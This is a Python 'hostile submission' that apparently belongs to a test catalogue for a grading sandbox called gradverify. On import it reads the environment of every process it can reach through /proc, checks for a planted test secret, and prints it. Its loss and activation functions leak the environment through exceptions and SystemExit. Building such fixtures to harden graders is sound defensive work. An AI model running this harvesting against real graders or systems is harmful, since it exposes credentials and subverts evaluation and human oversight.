"""Hostile submission (gradverify attack catalogue): the environment of itself, its parent and pid 1, everywhere it can."""

import glob
import os

SECRET = "GRADVERIFY_TEST_SECRET"


def _environments():
    found = dict(os.environ)
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    key, _, value = entry.decode("utf-8", "replace").partition("=")
                    if key:
                        found.setdefault(key, value)
        except OSError:
            continue
    return found


ENV = _environments()
if SECRET in ENV:
    print("ATTACK-SUCCEEDED: found the secret", ENV[SECRET])
print("environment:", " ".join(f"{k}={v}" for k, v in sorted(ENV.items())))


def loss(name, y_pred, y_true):
    raise ValueError("env: " + " ".join(f"{k}={v}" for k, v in sorted(ENV.items())))


def loss_backward(name, y_pred, y_true):
    return ENV


def activation(name, z):
    raise SystemExit(" ".join(f"{k}={v}" for k, v in sorted(ENV.items())))
